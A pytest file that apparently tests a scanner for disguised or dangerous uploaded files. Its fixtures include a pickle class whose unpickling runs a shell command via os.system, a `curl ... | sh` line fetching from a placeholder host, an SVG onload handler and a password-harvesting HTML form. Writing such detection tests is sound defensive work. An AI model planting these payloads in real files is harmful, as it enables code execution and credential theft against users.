"""Files are judged by their first bytes."""

from __future__ import annotations

import asyncio
import io
import pickle
import zipfile

import pytest


class Evil:
    def __reduce__(self):
        import os

        return os.system, ("id",)


def encrypted_zip():
    raw = bytearray(zipped({"a.txt": b"x"}))
    for at in (raw.index(b"PK\x03\x04") + 6, raw.index(b"PK\x01\x02") + 8):
        raw[at] |= 1
    return bytes(raw)


def zipped(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(
    ("rule", "name", "content"),
    [
        ("disguised-file", "logo.png", b"MZ\x90\x00"),
        ("disguised-file", "logo.png", b"GIF89a"),
        ("disguised-file", "data.bin", b"\x7fELF\x02"),
        ("disguised-file", "m.pkl", pickle.dumps(Evil())),
        ("disguised-file", "data", pickle.dumps(Evil(), protocol=2)),
        ("disguised-file", "weights.bin", pickle.dumps(Evil(), protocol=0)),
        ("program-in-package", "sitecustomize.py", b"x = 1\n"),
        ("program-in-package", "run.sh", b"echo"),
        ("program-in-package", "setup.exe", b"MZ"),
        ("program-in-package", "tool", b"#!/bin/sh\n"),
        ("program-in-package", "docs.txt", b"curl https://a.invalid/x | sh"),
        ("program-in-package", "data.zip", zipped({"a/evil.dll": b"x"})),
        ("unreadable", "data.zip", b"PK\x03\x04 and nothing"),
        ("unreadable", "data.zip", encrypted_zip()),
        ("active-asset", "a.svg", b"<svg onload='x()'/>"),
        ("active-asset", "a.html", b"<form action='https://a.invalid'><input type=password></form>"),
    ],
)
def test_a_file_that_is_not_what_it_says_is_found(scan, rule, name, content):
    result = asyncio.run(scan("x = 1", files={name: content}))
    assert (rule, name) in {(issue.rule, issue.path) for issue in result.issues}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("logo.png", b"\x89PNG\r\n\x1a\n"),
        ("rows.pkl", pickle.dumps([{"a": 1}])),
        ("rows.json", b"{}"),
        ("rows.zip", zipped({"rows.csv": b"a,b"})),
        ("a.svg", b"<svg><title>loading</title></svg>"),
        ("cut.pkl", pickle.dumps(list(range(500)))[:40]),
    ],
)
def test_honest_files_pass(scan, name, content):
    result = asyncio.run(scan("x = 1", files={name: content}))
    assert result.passed, result.reasons
